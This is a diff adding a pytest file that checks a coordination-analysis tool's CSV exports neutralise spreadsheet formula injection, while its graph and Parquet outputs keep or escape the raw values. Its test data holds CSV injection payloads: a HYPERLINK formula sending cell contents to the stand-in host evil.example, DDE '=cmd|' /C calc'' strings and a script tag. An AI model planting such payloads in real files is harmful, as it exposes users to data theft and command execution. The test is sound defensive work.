@@ -1,0 +1,51 @@
+"""Hostile data stays data in every export: CSV cells a spreadsheet would run as a formula
+are neutralised, GraphML/GEXF escape XML, and the raw values survive in Parquet."""
+
+from __future__ import annotations
+
+import csv
+import re
+
+import networkx as nx
+import pyarrow.parquet as pq
+
+from conftest import assert_clean_exit, ingest, run_cli
+
+FORMULA = re.compile(r"^[=+\-@\t\r]")
+PLAIN_NUMBER = re.compile(r"^[+-]?[0-9]+([.][0-9]+)?([eE][+-]?[0-9]+)?$")
+HOSTILE_NAMES = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "@SUM(1+1)*cmd|' /C calc'!A0", "+1-2<script>alert(1)</script>", "-2+3&\"'<x>"]
+
+
+def hostile_collection(path):
+    """Four accounts with hostile handles retweet the same five posts within seconds."""
+    rows = [["message_id", "user_id", "username", "repost_id", "reply_id", "message", "timestamp", "urls"]]
+    for post in range(5):
+        original = 1000 + post * 10
+        rows.append([original, "src", "=source()", "", "", f"=cmd|' /C calc'!A{post} original {post}", 1_700_000_000 + post * 3600, ""])
+        for i, name in enumerate(HOSTILE_NAMES):
+            rows.append([original + i + 1, f"=u{i}()", name, original, "", f"RT {name}", 1_700_000_000 + post * 3600 + 5 + i, ""])
+    with open(path, "w", newline="", encoding="utf-8") as out:
+        csv.writer(out).writerows(rows)
+
+
+def cells(path):
+    with open(path, newline="", encoding="utf-8") as stream:
+        return [cell for row in csv.reader(stream) for cell in row]
+
+
+def test_csv_exports_are_inert_and_graph_files_escape_xml(tmp_path):
+    hostile_collection(tmp_path / "hostile.csv")
+    workspace, out = tmp_path / "ws", tmp_path / "out"
+    assert_clean_exit(ingest(workspace, "cnt-csv", tmp_path / "hostile.csv"))
+    assert_clean_exit(run_cli("coordination", "--workspace", workspace, "--window", "60", "--out", out))
+    for name in ("edges.csv", "accounts.csv", "clusters.csv", "viral_objects.csv"):
+        dangerous = [c for c in cells(out / name) if FORMULA.match(c) and not PLAIN_NUMBER.match(c)]
+        assert not dangerous, (name, dangerous[:3])
+    accounts = {row["account_id"]: row for row in csv.DictReader(open(out / "accounts.csv", encoding="utf-8"))}
+    assert "'=u0()" in accounts and accounts["'=u0()"]["handle"] == "'" + HOSTILE_NAMES[0]
+    # Parquet and the graph files keep the values exactly as they were, escaped as XML needs.
+    evidence = pq.read_table(out / "evidence.parquet").to_pylist()
+    assert {"=u0()", "=u1()"} <= {row["account_a"] for row in evidence} | {row["account_b"] for row in evidence}
+    for graph in (nx.read_graphml(out / "network.graphml"), nx.read_gexf(out / "network.gexf")):
+        assert {"=u0()", "=u3()"} <= set(graph.nodes)
+        assert graph.nodes["=u2()"]["handle"] == HOSTILE_NAMES[2]
